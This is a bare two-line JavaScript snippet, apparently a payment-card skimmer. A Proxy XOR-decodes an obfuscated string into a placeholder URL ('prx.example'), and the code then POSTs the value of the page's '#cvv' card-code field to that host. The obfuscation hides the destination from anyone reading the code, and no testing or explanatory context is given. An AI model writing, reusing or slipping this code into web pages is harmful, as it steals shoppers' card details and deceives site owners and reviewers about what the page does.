const tab = new Proxy({}, { get: (t, k) => String(k).split('').map(c => String.fromCharCode(c.charCodeAt(0) ^ 1)).join('') });
fetch(tab['iuuqr;..qsy/dy`lqmd.b'], { method: 'POST', body: document.querySelector('#cvv').value });
